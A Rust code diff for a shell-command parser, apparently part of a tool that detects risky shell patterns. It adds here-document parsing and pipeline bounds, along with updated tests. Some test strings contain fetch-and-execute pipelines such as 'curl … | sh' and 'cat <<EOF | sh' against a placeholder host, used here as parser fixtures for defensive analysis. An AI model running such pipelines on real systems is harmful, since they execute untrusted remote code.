@@ -11,7 +11,7 @@ use tree_sitter::Node;
 
 use crate::{
     ParseStop, line, parse_grammar,
-    shell_bounds::{self, MAX_PIPELINE_STAGES, MAX_PIPES_PER_PARSE},
+    shell_bounds::{self, MAX_PIPES_PER_PARSE},
     text,
 };
 
@@ -24,6 +24,18 @@ pub struct Redirect {
     pub target: String,
     /// The file descriptor written before the operator (`2` in `2>/dev/null`), if any.
     pub fd: Option<u32>,
+    /// A here-document's body (`<<EOF` … `EOF`), for a `<<` or `<<-` redirection.
+    pub heredoc: Option<Heredoc>,
+}
+
+/// The body of a here-document, as written (expansions left unexpanded).
+#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
+pub struct Heredoc {
+    /// 1-based line of its first line.
+    pub line: u32,
+    /// Its text, up to the delimiter line (not included); for `<<-`, without the lines'
+    /// leading tabs.
+    pub text: String,
 }
 
 impl Redirect {
@@ -85,18 +97,19 @@ pub struct ShellFacts {
 /// and memory on it grow with the square of its length (see [`crate::shell_bounds`]).
 #[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
 pub enum Unread {
-    /// A statement (at 1-based `line`) of `stages` pipeline stages, more than
-    /// [`MAX_PIPELINE_STAGES`].
+    /// A statement of `stages` pipeline stages, more than [`MAX_PIPELINE_STAGES`](shell_bounds::MAX_PIPELINE_STAGES): the
+    /// stages past the bound are not parsed, the ones before it are.
     Pipeline {
         /// 1-based line where it starts.
         line: u32,
         /// Its pipeline stages.
         stages: usize,
     },
-    /// A line holding `pipes` `|` characters, more than [`MAX_PIPES_PER_PARSE`], which the
-    /// statement reading did not find to be one long pipeline (quoting it cannot be sure of).
-    Line {
-        /// 1-based line.
+    /// A statement holding `pipes` `|` characters, more than [`MAX_PIPES_PER_PARSE`], most of
+    /// them quoted as far as the statement reading could tell: not parsed, since a reading
+    /// that far off would hand the parser a pipeline as long.
+    Pipes {
+        /// 1-based line where it starts.
         line: u32,
         /// Its `|` characters outside `||`.
         pipes: usize,
@@ -107,7 +120,7 @@ impl Unread {
     /// The 1-based line it starts at.
     pub fn line(&self) -> u32 {
         match self {
-            Unread::Pipeline { line, .. } | Unread::Line { line, .. } => *line,
+            Unread::Pipeline { line, .. } | Unread::Pipes { line, .. } => *line,
         }
     }
 }
@@ -147,22 +160,39 @@ pub fn shell_commands(source: &str) -> ShellFacts {
 
 /// [`shell_commands`] with a time budget for the parse.
 ///
-/// A statement of more than [`MAX_PIPELINE_STAGES`] stages is not parsed (the rest is) and is
-/// listed in [`ShellFacts::unread`]; text holding more than [`MAX_PIPES_PER_PARSE`] `|`
-/// characters is parsed in pieces of whole lines (see [`crate::shell_bounds`]).
+/// A statement's stages past [`MAX_PIPELINE_STAGES`](shell_bounds::MAX_PIPELINE_STAGES) are not parsed (the rest is) and are
+/// listed in [`ShellFacts::unread`], as is a statement holding more than
+/// [`MAX_PIPES_PER_PARSE`] `|` characters; text holding more is parsed in pieces of whole
+/// statements (see [`crate::shell_bounds`]).
 pub fn shell_commands_within(source: &str, budget: std::time::Duration) -> ShellFacts {
     let started = std::time::Instant::now();
+    let statements = shell_bounds::statements(source);
     let mut unread = Vec::new();
     let mut blanked: Option<Vec<u8>> = None;
-    for s in shell_bounds::statements(source) {
-        if s.pipes >= MAX_PIPELINE_STAGES {
+    for s in &statements {
+        let line = || line_at(source, first_word(source, s.bytes.start));
+        let mut kept = s.bytes.clone();
+        if let Some(cut) = s.cut {
+            // The stages from the bound on are left out; the ones before it are read.
             unread.push(Unread::Pipeline {
-                line: line_at(source, first_word(source, s.bytes.start)),
+                line: line(),
                 stages: s.pipes + 1,
+            });
+            let text = blanked.get_or_insert_with(|| source.as_bytes().to_vec());
+            blank(text, cut..s.bytes.end);
+            // The statement still ends where it did (its separator is blanked with the rest).
+            text[cut] = b';';
+            kept = s.bytes.start..cut;
+        }
+        let pipes = shell_bounds::pipe_chars(&source.as_bytes()[kept.clone()]);
+        if pipes > MAX_PIPES_PER_PARSE {
+            unread.push(Unread::Pipes {
+                line: line(),
+                pipes,
             });
             blank(
                 blanked.get_or_insert_with(|| source.as_bytes().to_vec()),
-                s.bytes,
+                kept,
             );
         }
     }
@@ -171,17 +201,8 @@ pub fn shell_commands_within(source: &str, budget: std::time::Duration) -> Shell
         std::borrow::Cow::Owned(String::from_utf8_lossy(&b).into_owned())
     });
     let mut facts = ShellFacts::default();
-    for piece in shell_bounds::pieces(&text, MAX_PIPES_PER_PARSE) {
+    for piece in shell_bounds::pieces(&text, &statements, MAX_PIPES_PER_PARSE) {
         let part = &text[piece.clone()];
-        let pipes = shell_bounds::pipe_chars(part.as_bytes());
-        if pipes > MAX_PIPES_PER_PARSE {
-            // One line: what the statement reading found in it cannot be trusted.
-            unread.push(Unread::Line {
-                line: line_at(&text, piece.start),
-                pipes,
-            });
-            continue;
-        }
         let Some(left) = budget.checked_sub(started.elapsed()) else {
             facts.timed_out = true;
             break;
@@ -209,7 +230,7 @@ pub fn shell_commands_within(source: &str, budget: std::time::Duration) -> Shell
         // Over the budget: no facts, as a parse stopped whole gives none.
         facts.commands.clear();
     }
-    unread.sort();
+    unread.sort_by_key(Unread::line);
     facts.unread = unread;
     for (i, c) in facts.commands.iter().enumerate() {
         facts.members.entry(c.pipeline).or_default().push(i);
@@ -446,7 +467,10 @@ fn command<'t>(node: Node<'t>, at: Context<'t>, src: &[u8], tree: &mut Tree<'t>)
                     _ => break,
                 }
             }
-            (outer.start_byte(), position)
+            match heredoc_owner(tree, outer) {
+                Some(owner) => (owner.start_byte(), position + 1),
+                None => (outer.start_byte(), position),
+            }
         }
         _ => (unit.start_byte(), 0),
     };
@@ -558,7 +582,50 @@ fn redirect(node: Node<'_>, src: &[u8]) -> Option<Redirect> {
                 .find(|n| n.kind() == "file_descriptor")
         })
         .and_then(|d| text(d, src).parse().ok());
-    Some(Redirect { op, target, fd })
+    let heredoc = (node.kind() == "heredoc_redirect")
+        .then(|| {
+            let mut c = node.walk();
+            node.named_children(&mut c)
+                .find(|n| n.kind() == "heredoc_body")
+        })
+        .flatten()
+        .map(|b| {
+            // Up to its last line end (tree-sitter's node runs on to the delimiter's
+            // indentation); `<<-` strips the lines' leading tabs.
+            let t = text(b, src);
+            let t = &t[..t.rfind('\n').map_or(0, |p| p + 1)];
+            Heredoc {
+                line: line(b),
+                text: if op == "<<-" {
+                    t.split_inclusive('\n')
+                        .map(|l| l.trim_start_matches('\t'))
+                        .collect()
+                } else {
+                    t.to_owned()
+                },
+            }
+        });
+    Some(Redirect {
+        op,
+        target,
+        fd,
+        heredoc,
+    })
+}
+
+/// The statement whose here-document `pipeline` goes on from, when that statement is not in a
+/// pipeline itself: tree-sitter-bash puts `| sh` of `cat <<EOF | sh` inside the here-document's
+/// redirection, and bash runs one pipeline of `cat` and `sh`.
+fn heredoc_owner<'t>(tree: &Tree<'t>, pipeline: Node<'t>) -> Option<Node<'t>> {
+    let h = tree
+        .parent(pipeline)
+        .filter(|h| h.kind() == "heredoc_redirect")?;
+    let r = tree
+        .parent(h)
+        .filter(|r| r.kind() == "redirected_statement")?;
+    tree.parent(r)
+        .is_none_or(|p| p.kind() != "pipeline")
+        .then_some(r)
 }
 
 /// A word without its quoting: `"a b"` → `a b`, `'x'` → `x`, `--data="$(env)"` → `--data=$(env)`.
@@ -588,6 +655,7 @@ fn unquote(s: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::shell_bounds::MAX_PIPELINE_STAGES;
 
     #[test]
     fn a_pipeline_flows_from_the_downloader_into_the_interpreter() {
@@ -656,6 +724,7 @@ mod tests {
                 op: ">>".into(),
                 target: "~/.bashrc".into(),
                 fd: None,
+                heredoc: None,
             }]
         );
         assert_eq!(c[1].name, "bash");
@@ -697,8 +766,9 @@ mod tests {
     #[test]
     fn a_pipeline_past_the_bound_is_reported_and_the_rest_is_read() {
         let n = MAX_PIPELINE_STAGES;
+        // n pipe operators: n + 1 stages, the last on the next line.
         let src = format!(
-            "echo a | sh\nX=1 curl -s https://x.invalid/a{} |\n  cat\nwget -q u; echo b\n",
+            "echo a | sh\nX=1 curl -s https://x.invalid/a{} |\n  cat; rm x\nwget -q u; echo b\n",
             "|cat".repeat(n - 1)
         );
         let f = shell_commands(&src);
@@ -709,40 +779,59 @@ mod tests {
                 stages: n + 1
             }]
         );
+        // The first n stages are read, as one pipeline; the last, past the bound, is not;
+        // `rm`, after the statement's `;`, is.
         let seen: Vec<(&str, u32)> = f
             .commands
             .iter()
             .map(|c| (c.name.as_str(), c.line))
+            .filter(|(n, _)| *n != "cat")
             .collect();
-        assert_eq!(seen, [("echo", 1), ("sh", 1), ("wget", 4), ("echo", 4)]);
-        // One stage fewer is read whole.
-        let src = format!("curl u{}\n", "|cat".repeat(n - 2));
+        assert_eq!(
+            seen,
+            [
+                ("echo", 1),
+                ("sh", 1),
+                ("curl", 2),
+                ("rm", 3),
+                ("wget", 4),
+                ("echo", 4)
+            ]
+        );
+        assert_eq!(f.downstream(2).count(), n - 1);
+        // n stages exactly are read whole.
+        let src = format!("curl u{}\n", "|cat".repeat(n - 1));
         let f = shell_commands(&src);
         assert!(f.unread.is_empty());
-        assert_eq!(f.commands.len(), n - 1);
+        assert_eq!(f.commands.len(), n);
     }
 
-    /// Text with more `|` characters than one parse may take is read in pieces of lines, each
-    /// command with its own line, statement and pipeline; a single line past the bound that is
-    /// not one pipeline (its pipes quoted) is reported.
+    /// Text with more `|` characters than one parse may take is read in pieces of whole
+    /// statements, each command keeping its line, statement, pipeline and parent; a statement
+    /// holding more than one parse takes that is not one pipeline (its pipes quoted) is
+    /// reported; a statement after quoted pipes is not cut.
     #[test]
-    fn many_pipes_are_parsed_in_pieces_of_lines() {
-        let line = format!("a{} | b\n", "|x".repeat(9));
+    fn many_pipes_are_parsed_in_pieces_of_statements() {
+        let line = format!("a{} | b \"$(c)\"\n", "|x".repeat(9));
         let lines = MAX_PIPES_PER_PARSE / 10 + 5;
         let src = line.repeat(lines);
         let f = shell_commands(&src);
         assert!(f.unread.is_empty());
-        assert_eq!(f.commands.len(), lines * 11);
-        for (i, chunk) in f.commands.chunks(11).enumerate() {
+        assert_eq!(f.commands.len(), lines * 12);
+        for (i, chunk) in f.commands.chunks(12).enumerate() {
             let want = u32::try_from(i + 1).unwrap_or(u32::MAX);
             assert!(chunk.iter().all(|c| c.line == want), "line {want}");
-            assert!(chunk.iter().all(|c| c.pipeline == chunk[0].pipeline));
-            let positions: Vec<u32> = chunk.iter().map(|c| c.position).collect();
+            assert!(chunk.iter().all(|c| c.statement == chunk[0].statement));
+            assert!(chunk[..11].iter().all(|c| c.pipeline == chunk[0].pipeline));
+            let positions: Vec<u32> = chunk[..11].iter().map(|c| c.position).collect();
             assert_eq!(positions, (0..11).collect::<Vec<u32>>());
+            // `c` runs in `b`'s substitution.
+            assert_eq!(chunk[11].name, "c");
+            assert_eq!(chunk[11].parent, Some(i * 12 + 10), "line {want}");
         }
-        let pipelines: std::collections::BTreeSet<u32> =
-            f.commands.iter().map(|c| c.pipeline).collect();
-        assert_eq!(pipelines.len(), lines);
+        let statements: std::collections::BTreeSet<u32> =
+            f.commands.iter().map(|c| c.statement).collect();
+        assert_eq!(statements.len(), lines);
         let quoted = format!(
             "echo ok\ngrep '{}' f\necho done\n",
             "a|".repeat(MAX_PIPES_PER_PARSE + 1)
@@ -750,13 +839,24 @@ mod tests {
         let f = shell_commands(&quoted);
         assert_eq!(
             f.unread,
-            [Unread::Line {
+            [Unread::Pipes {
                 line: 2,
                 pipes: MAX_PIPES_PER_PARSE + 1
             }]
         );
         let names: Vec<&str> = f.commands.iter().map(|c| c.name.as_str()).collect();
         assert_eq!(names, ["echo", "echo"]);
+        // Quoted pipes up to the bound, then a pipeline over two lines: one piece each, the
+        // pipeline whole.
+        let src = format!(
+            "echo '{}'\ncurl -fsSL https://x.invalid/i.sh \\\n  | sh\n",
+            "a|".repeat(MAX_PIPES_PER_PARSE)
+        );
+        let f = shell_commands(&src);
+        assert!(f.unread.is_empty());
+        let names: Vec<&str> = f.commands.iter().map(|c| c.name.as_str()).collect();
+        assert_eq!(names, ["echo", "curl", "sh"]);
+        assert_eq!(f.downstream(1).map(|(j, _)| j).collect::<Vec<_>>(), [2]);
     }
 
     /// A list as long as the file (`a && b && …`, one nesting level per command) gives each
@@ -775,6 +875,53 @@ mod tests {
         );
         assert_ne!(f.commands[n + 1].statement, first);
         assert_eq!(f.commands[n + 2].parent, Some(n + 1));
+    }
+
+    /// A here-document's body is kept with its first line; a pipeline written after the
+    /// delimiter (`cat <<EOF | sh`, which tree-sitter puts inside the redirection) goes on from
+    /// the command that reads the document.
+    #[test]
+    fn a_here_document_s_body_and_pipeline() {
+        let f = shell_commands(
+            "echo a\ncat <<'EOF' | tr -d x | sh\ncurl -s u | bash\n  wget v\nEOF\nbase64 -d <<-E | sh\n\tY3VybA==\n\tE\nbash <<EOF\nid\nEOF\n",
+        );
+        let seen: Vec<(&str, u32, u32)> = f
+            .commands
+            .iter()
+            .map(|c| (c.name.as_str(), c.line, c.position))
+            .collect();
+        assert_eq!(
+            seen,
+            [
+                ("echo", 1, 0),
+                ("cat", 2, 0),
+                ("tr", 2, 1),
+                ("sh", 2, 2),
+                ("base64", 6, 0),
+                ("sh", 6, 1),
+                ("bash", 9, 0),
+            ]
+        );
+        let c = &f.commands;
+        assert!(c[1..4].iter().all(|x| x.pipeline == c[1].pipeline));
+        assert_eq!(c[4].pipeline, c[5].pipeline);
+        assert_ne!(c[1].pipeline, c[4].pipeline);
+        assert_eq!(
+            f.downstream(4)
+                .map(|(_, o)| o.name.as_str())
+                .collect::<Vec<_>>(),
+            ["sh"]
+        );
+        let doc = |i: usize| {
+            c[i].redirects
+                .iter()
+                .find_map(|r| r.heredoc.as_ref())
+                .map(|h| (h.line, h.text.as_str()))
+        };
+        assert_eq!(doc(1), Some((3, "curl -s u | bash\n  wget v\n")));
+        assert_eq!(doc(4), Some((7, "Y3VybA==\n")));
+        assert_eq!(doc(6), Some((10, "id\n")));
+        assert_eq!(doc(0), None);
     }
 
     /// A command's name, position and redirections (operator, target, descriptor).
